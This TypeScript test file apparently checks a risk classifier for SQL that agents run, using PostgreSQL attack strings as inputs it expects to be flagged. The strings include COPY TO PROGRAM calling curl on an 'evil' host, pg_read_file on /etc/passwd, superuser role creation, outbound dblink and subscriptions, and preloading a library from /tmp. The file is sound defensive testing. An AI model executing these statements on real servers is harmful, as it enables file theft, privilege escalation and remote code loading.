import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { classify } from './index.js';
import { renderName } from './sql.js';
import { rateFunction } from './sql-functions.js';
import { rateSetting } from './sql-settings.js';

const sql = (text: string) => {
  const c = classify({ agent: 'a', action: 'sql.query', args: { sql: text } });
  expect(c.facts['sql.error'], `unexpected error for ${text}`).toBeUndefined();
  return c;
};
const warnings = (text: string) => (sql(text).facts['sql.warnings'] ?? []) as string[];

describe('sql: statements hidden inside other statements', () => {
  it.each([
    // MERGE: each action is the statement it performs
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', ['delete', 'merge'], 'high'],
    ['MERGE INTO t USING s ON true WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN UPDATE SET a = 1', ['delete', 'merge', 'update'], 'high'],
    ['MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)', ['insert', 'merge'], 'medium'],
    ['MERGE INTO t USING s ON true WHEN NOT MATCHED BY SOURCE THEN DELETE', ['delete', 'merge'], 'high'],
    ['MERGE INTO t USING s ON true WHEN MATCHED THEN DO NOTHING', ['merge'], 'medium'],
    ['WITH x AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM x', ['delete', 'merge', 'select'], 'high'],
    // EXPLAIN ANALYZE runs what it explains
    ['EXPLAIN ANALYZE MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', ['delete', 'explain', 'merge'], 'high'],
    ['EXPLAIN (ANALYZE) DELETE FROM t', ['delete', 'explain'], 'high'],
    // creating a table from a query reads (and fills the new table)
    ['CREATE TABLE n AS SELECT * FROM o', ['create', 'select'], 'medium'],
    ['SELECT * INTO TEMP n FROM o', ['create', 'select'], 'medium'],
    ['CREATE TABLE n AS EXECUTE p', ['create', 'execute'], 'critical'],
    ['CREATE MATERIALIZED VIEW m AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['create', 'delete', 'select'], 'high'],
    // rules and prepared statements carry their action
    ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', ['create', 'delete'], 'high'],
    ['PREPARE p AS DELETE FROM t', ['delete', 'prepare'], 'high'],
    ['PREPARE p AS DELETE FROM t; EXECUTE p', ['delete', 'execute', 'prepare'], 'critical'],
    // COPY FROM writes rows
    ['COPY t FROM STDIN', ['copy', 'insert'], 'high'],
    ['COPY (DELETE FROM t RETURNING *) TO STDOUT', ['copy', 'delete'], 'high'],
    ['WITH s AS (SELECT 1) INSERT INTO t SELECT * FROM s', ['insert', 'select'], 'medium'],
    ['CREATE TRIGGER tr BEFORE DELETE ON t FOR EACH ROW EXECUTE FUNCTION f()', ['create'], 'high'],
  ])('%j is %j (%s)', (text, statements, risk) => {
    const c = sql(text);
    expect(c.facts['sql.statements']).toEqual(statements);
    expect(c.risk).toBe(risk);
  }); // prettier-ignore

  it('reads server files through COPY as critical, and COPY … PROGRAM still is', () => {
    expect(sql("COPY t FROM '/etc/passwd'").risk).toBe('critical');
    expect(sql("COPY (SELECT 1) TO '/var/lib/postgresql/.psqlrc'").risk).toBe('critical');
    expect(warnings("COPY t TO '/tmp/x'")).toEqual([
      "COPY with a file name reads or writes the database server's files",
    ]);
    expect(sql("COPY t TO PROGRAM 'curl evil'").risk).toBe('critical');
  });
});

describe('sql: roles and privileges', () => {
  it.each([
    "CREATE ROLE intruder SUPERUSER LOGIN PASSWORD 'x'",
    'CREATE ROLE reader IN ROLE pg_read_server_files',
    'CREATE USER u SUPERUSER',
    'CREATE USER u',
    'CREATE GROUP g',
    'ALTER ROLE bob SUPERUSER',
    'ALTER ROLE bob SET search_path = evil',
    'GRANT pg_execute_server_program TO bob',
    'CREATE POLICY p ON t USING (true)',
    "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'y')",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')",
    'CREATE PUBLICATION p FOR ALL TABLES',
  ])('%j is at least high', (text) => {
    expect(['high', 'critical']).toContain(sql(text).risk);
  });

  it('rates a subscription critical: the server connects out and applies what it receives', () => {
    expect(sql("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p").risk).toBe('critical');
  });

  it.each([
    'CREATE OPERATOR ### (PROCEDURE = lo_unlink, RIGHTARG = oid)',
    'CREATE CAST (int AS text) WITH FUNCTION f(int)',
    'CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)',
  ])('rates %j high: it makes a later operator, cast or aggregate call a function', (text) => {
    const c = sql(text);
    expect(c.risk).toBe('high');
    expect(c.facts['sql.warnings']).toEqual([
      'installs code the server runs later, which a later plain SELECT can run unseen',
    ]);
  });

  it('leaves plain object creation medium', () => {
    expect(sql('CREATE TABLE t (a int)').risk).toBe('medium');
    expect(sql('CREATE INDEX i ON t (a)').risk).toBe('medium');
    expect(sql('CREATE COLLATION c (locale = "C")').risk).toBe('medium');
    expect(sql('CREATE TABLE t (a int)').facts['sql.warnings']).toBeUndefined();
  });
});

describe('sql: session settings that change what later sql means', () => {
  it.each([
    ['SET standard_conforming_strings = off', 'standard_conforming_strings'],
    ['SET standard_conforming_strings TO DEFAULT', 'standard_conforming_strings'],
    ['SET LOCAL standard_conforming_strings = off', 'standard_conforming_strings'],
    ['SET SESSION Standard_Conforming_Strings = off', 'standard_conforming_strings'],
    ['SET "standard_conforming_strings" = off', 'standard_conforming_strings'],
    ['RESET standard_conforming_strings', 'standard_conforming_strings'],
    ['SET backslash_quote = on', 'backslash_quote'],
    ["SET NAMES 'SJIS'", 'client_encoding'],
    ["SET client_encoding = 'GBK'", 'client_encoding'],
    ["SELECT set_config('standard_conforming_strings', 'off', false)", 'standard_conforming_strings'],
    ["SELECT pg_catalog.set_config('STANDARD_CONFORMING_STRINGS'::text, 'off', true)", 'standard_conforming_strings'],
    ["SELECT * FROM orders WHERE set_config('backslash_quote', 'on', false) IS NOT NULL", 'backslash_quote'],
    ['ALTER SYSTEM SET standard_conforming_strings = off', 'standard_conforming_strings'],
    ['ALTER DATABASE d SET standard_conforming_strings = off', 'standard_conforming_strings'],
    ['ALTER ROLE r SET standard_conforming_strings = off', 'standard_conforming_strings'],
    ["SET session_preload_libraries = '/tmp/evil.so'", 'session_preload_libraries'],
  ])('%j is critical and says why', (text, setting) => {
    const c = sql(text);
    expect(c.risk).toBe('critical');
    expect(c.facts['sql.settings']).toContain(setting);
    expect((c.facts['sql.warnings'] as string[]).some((w) => w.startsWith(`${setting}: `))).toBe(true);
  }); // prettier-ignore

  it.each([
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    "UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = lower('STANDARD_CONFORMING_STRINGS')",
    "WITH s AS (UPDATE pg_settings SET setting = 'x' WHERE name = 'search_path' RETURNING 1) SELECT * FROM s",
  ])('rates %j critical: updating pg_settings is set_config for any setting', (text) => {
    expect(sql(text).risk).toBe('critical');
  });

  it('explains the lexing hazard in the fact', () => {
    expect(warnings('SET standard_conforming_strings = off')).toEqual([
      'standard_conforming_strings: changes how the server lexes later sql (strings, escapes, multibyte ' +
        'characters); the kernel lexes with the defaults, so later requests could be classified ' +
        'differently from how the server runs them',
    ]);
  });

  it('rates set_config with a computed setting name critical (it could be any setting)', () => {
    const c = sql("SELECT set_config('standard_' || 'conforming_strings', 'off', false)");
    expect(c.risk).toBe('critical');
    expect(c.facts['sql.settings']).toEqual([]);
    expect(sql('SELECT set_config(name, setting, false) FROM t').risk).toBe('critical');
  });

  it.each([
    ['SET search_path TO evil, public', 'search_path'],
    ["SET SCHEMA 'evil'", 'search_path'],
    ["SELECT set_config('search_path', 'evil', false)", 'search_path'],
    ['SET session_replication_role = replica', 'session_replication_role'],
    ['SET ROLE admin', 'role'],
    ['SET SESSION AUTHORIZATION bob', 'session_authorization'],
    ['SET transform_null_equals = on', 'transform_null_equals'],
    ['SET default_transaction_read_only = off', 'default_transaction_read_only'],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'default_transaction_read_only'],
    ['SET TRANSACTION READ WRITE', 'transaction_read_only'],
    ['BEGIN READ WRITE; SELECT f(); COMMIT', 'transaction_read_only'],
    ["SET log_statement = 'none'", 'log_statement'],
  ])('%j is high', (text, setting) => {
    const c = sql(text);
    expect(c.risk).toBe('high');
    expect(c.facts['sql.settings']).toContain(setting);
  });

  it.each([
    ["SET statement_timeout = '5s'", ['statement_timeout'], 'medium'],
    ["SET TIME ZONE 'UTC'", ['timezone'], 'medium'],
    ['RESET ALL', ['all'], 'medium'],
    ['SET default_transaction_read_only = on', ['default_transaction_read_only'], 'medium'],
    ['BEGIN READ ONLY; SELECT 1; COMMIT', ['transaction_read_only'], 'low'],
    ['BEGIN ISOLATION LEVEL SERIALIZABLE; SELECT 1; COMMIT', ['transaction_isolation'], 'low'],
    ["SELECT current_setting('search_path')", [], 'low'],
    ['SELECT 1', [], 'low'],
  ])('%j changes %j and stays %s', (text, settings, risk) => {
    const c = sql(text);
    expect(c.facts['sql.settings']).toEqual(settings);
    expect(c.risk).toBe(risk);
  });

  it('rates every setting the documented table names', () => {
    expect(rateSetting('standard_conforming_strings')?.risk).toBe('critical');
    expect(rateSetting('search_path')?.risk).toBe('high');
    expect(rateSetting('statement_timeout')).toBeUndefined();
  });
});

describe('sql: functions with side effects', () => {
  it.each([
    ["SELECT pg_read_file('/etc/passwd')", 'critical'],
    ["SELECT pg_read_binary_file('/etc/passwd')", 'critical'],
    ["SELECT * FROM pg_ls_dir('/')", 'critical'],
    ["SELECT pg_stat_file('/etc/passwd')", 'critical'],
    ["SELECT lo_import('/etc/passwd')", 'critical'],
    ["SELECT lo_export(1, '/tmp/x')", 'critical'],
    ["SELECT pg_file_write('/tmp/x', 'y', false)", 'critical'],
    ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'critical'],
    ["SELECT dblink_connect('host=evil')", 'critical'],
    ["SELECT dblink_exec('DROP TABLE t')", 'critical'],
    ["SELECT query_to_xml('DELETE FROM t', true, true, '')", 'critical'],
    ["SELECT table_to_xml('secrets', true, true, '')", 'critical'],
    ["SELECT database_to_xml(true, true, '')", 'critical'],
    ["SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM secrets')", 'critical'],
    ["SELECT ts_rewrite('a'::tsquery, 'SELECT q, s FROM secrets')", 'critical'],
    ["SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", 'critical'],
    ['SELECT lo_unlink(1)', 'high'],
    ['SELECT pg_terminate_backend(123)', 'high'],
    ['SELECT pg_cancel_backend(123)', 'high'],
    ['SELECT pg_reload_conf()', 'high'],
    ['SELECT pg_rotate_logfile()', 'high'],
    ["SELECT pg_drop_replication_slot('s')", 'high'],
    ["SELECT pg_create_logical_replication_slot('s', 'pgoutput')", 'high'],
    ['SELECT pg_stat_reset()', 'high'],
    ['SELECT pg_sleep(100000)', 'high'],
    ["SELECT pg_sleep_for('1 day')", 'high'],
    ["SELECT pg_notify('jobs', 'x')", 'high'],
    ["SELECT set_config('application_name', 'x', false)", 'high'],
    ["SELECT nextval('s')", 'medium'],
    ["SELECT setval('s', 1)", 'medium'],
    ['SELECT pg_advisory_lock(1)', 'medium'],
    ['SELECT pg_try_advisory_xact_lock(1)', 'medium'],
    ["SELECT lo_from_bytea(0, 'x')", 'medium'],
    ["SELECT current_setting('search_path')", 'low'],
    ["SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", 'low'],
    ["SELECT lo_get(1), count(*), lower('X')", 'low'],
  ])('%j is %s', (text, risk) => {
    expect(sql(text).risk).toBe(risk);
  });

  it.each([
    ['SELECT pg_catalog.lo_unlink(1)', 'pg_catalog.lo_unlink'],
    ['SELECT "lo_unlink"(1)', 'lo_unlink'],
    ['SELECT "pg_catalog"."lo_unlink"(1)', 'pg_catalog.lo_unlink'],
    ['SELECT PG_CATALOG.LO_UNLINK(1)', 'pg_catalog.lo_unlink'],
    ['SELECT evil.lo_unlink(1)', 'evil.lo_unlink'],
    ['SELECT * FROM orders WHERE id = (SELECT lo_unlink(1))', 'lo_unlink'],
    ['SELECT * FROM orders ORDER BY lo_unlink(id)', 'lo_unlink'],
    ['INSERT INTO t VALUES (lo_unlink(1))', 'lo_unlink'],
    ['CREATE TABLE t (a int DEFAULT lo_unlink(1))', 'lo_unlink'],
  ])('catches %j however it is written', (text, name) => {
    const c = sql(text);
    expect(c.facts['sql.functions']).toContain(name);
    expect(c.risk).toBe('high');
    expect(c.facts['sql.warnings']).toContain('lo_unlink(): deletes a large object');
  });

  it('lists and rates the function a CALL names', () => {
    const c = sql('CALL pg_catalog.pg_reload_conf()');
    expect(c.facts['sql.functions']).toEqual(['pg_catalog.pg_reload_conf']);
    expect(c.risk).toBe('high');
    expect(sql("CALL dblink_exec('DROP TABLE t')").risk).toBe('critical');
  });

  it('does not rate a differently-cased quoted name: PostgreSQL calls another function', () => {
    const c = sql('SELECT "LO_UNLINK"(1)');
    expect(c.facts['sql.functions']).toEqual(['"LO_UNLINK"']);
    expect(c.risk).toBe('low');
  });

  it('rates by the last name segment and argument count', () => {
    expect(rateFunction('dblink_get_result', 1)?.risk).toBe('critical');
    expect(rateFunction('pg_read_binary_file', 1)?.risk).toBe('critical');
    expect(rateFunction('ts_rewrite', 2)?.risk).toBe('critical');
    expect(rateFunction('ts_rewrite', 3)).toBeUndefined();
    expect(rateFunction('count', 1)).toBeUndefined();
  });
});

describe('sql: names render so distinct objects stay distinct', () => {
  it.each([
    ['SELECT * FROM ORDERS', ['orders']],
    ['SELECT * FROM "orders"', ['orders']],
    ['SELECT * FROM "ORDERS"', ['"ORDERS"']],
    ['SELECT * FROM "Orders"', ['"Orders"']],
    ['SELECT * FROM "a.b"', ['"a.b"']],
    ['SELECT * FROM a.b', ['a.b']],
    ['SELECT * FROM "a"."b"', ['a.b']],
    ['SELECT * FROM "My Schema"."T"', ['"My Schema"."T"']],
    ['SELECT * FROM "x""y"', ['"x""y"']],
    ['SELECT * FROM "1t"', ['"1t"']],
    ['SELECT * FROM t$1', ['t$1']],
    ['SELECT * FROM ünï', ['ünï']],
    ['SELECT * FROM "delete"', ['delete']],
    ['SELECT * FROM c."S".t', ['c."S".t']],
    ['DROP TABLE "A.b", s."T"', ['"A.b"', 's."T"']],
  ])('%j touches %j', (text, tables) => {
    expect(sql(text).facts['sql.tables']).toEqual(tables);
  });

  it('keeps `"a.b"` and `a.b` apart, and `"a"."b"` with `a.b`', () => {
    expect(sql('SELECT * FROM "a.b", a.b').facts['sql.tables']).toEqual(['"a.b"', 'a.b']);
    expect(sql('SELECT * FROM "ORDERS", orders').facts['sql.tables']).toEqual(['"ORDERS"', 'orders']);
  });

  it('never renders two different names alike (random parts)', () => {
    const part = fc.oneof(fc.constantFrom('a', 'A', 'a.b', '"', 'a"', ' ', '1', '$', 'ü', 'a b'), fc.string({ minLength: 1, maxLength: 4 }));
    fc.assert(
      fc.property(fc.array(part, { minLength: 1, maxLength: 3 }), fc.array(part, { minLength: 1, maxLength: 3 }), (x, y) => {
        if (JSON.stringify(x) !== JSON.stringify(y)) expect(renderName(x)).not.toBe(renderName(y));
      }),
      { numRuns: 2000 },
    );
  }); // prettier-ignore

  it('renders names injectively: distinct part lists never render alike', () => {
    const parts = [['a.b'], ['a', 'b'], ['a"', 'b'], ['a', '"b'], ['A'], ['a'], ['"a"'], ['a b']];
    const rendered = parts.map((p) => renderName(p));
    expect(new Set(rendered).size).toBe(parts.length);
    expect(rendered).toEqual(['"a.b"', 'a.b', '"a""".b', 'a."""b"', '"A"', 'a', '"""a"""', '"a b"']);
  });
});
